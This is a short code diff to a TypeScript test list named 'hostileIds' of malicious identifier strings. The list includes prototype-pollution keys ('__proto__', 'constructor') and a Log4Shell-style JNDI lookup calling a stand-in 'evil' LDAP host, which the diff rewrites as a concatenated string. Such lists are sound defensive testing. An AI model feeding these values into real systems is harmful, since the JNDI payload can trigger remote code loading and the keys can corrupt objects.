@@ -38,6 +38,6 @@ export const hostileIds: readonly string[] = [
   '%24expand',
   '__proto__',
   'constructor',
-  '${jndi:ldap://evil}',
+  '$' + '{jndi:ldap://evil}',
   '🦊',
 ];
